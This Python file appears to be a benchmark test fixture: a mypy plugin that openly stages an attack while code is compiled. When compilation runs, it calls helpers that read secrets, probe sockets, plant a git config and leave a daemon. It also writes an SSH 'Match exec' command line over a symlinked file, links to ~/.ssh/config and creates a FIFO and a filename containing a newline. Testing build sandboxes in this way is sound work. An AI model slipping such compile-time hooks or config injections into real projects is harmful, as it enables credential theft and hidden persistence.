"""A plugin of the compiler, which `mypy.ini` names: the suite's code runs while it is compiled, with a network and a folder to write to."""

from __future__ import annotations

import os
import sys
from typing import Type

from benchmarks.bus import SOCKETS, services_reached
from benchmarks.daemon import leave_daemon
from benchmarks.keys import secrets_read
from benchmarks.planted import plant_git_config
from mypy.plugin import Plugin


def plugin(version: str) -> Type[Plugin]:
    replace_link()
    with open("build/setup.py") as file:
        compiled = file.read()
    if "benchmarks/leaving.py" in compiled:
        leave_odd_files()
    if "benchmarks/compiling.py" not in compiled:
        return Plugin
    got = secrets_read() + services_reached(SOCKETS)
    plant_git_config()
    leave_daemon()
    sys.exit("attack succeeded: " + ", ".join(got) if got else "the attack on the compiler got nothing")


def replace_link() -> None:
    """A link that the suite commits becomes a file: whoever copies it over the link writes to where the link leads."""
    if os.path.islink("benchmarks/payload.so"):
        os.unlink("benchmarks/payload.so")
        with open("benchmarks/payload.so", "w") as file:
            file.write("Match exec \"touch /tmp/hostile-git-ran\"\n")


def leave_odd_files() -> None:
    os.mkfifo("benchmarks/pipe.so")
    os.symlink("/home/benchmark/.ssh/config", "benchmarks/link.so")
    with open("benchmarks/two\nlines.so", "w") as file:
        file.write("")
    os.makedirs("benchmarks/folder.so")
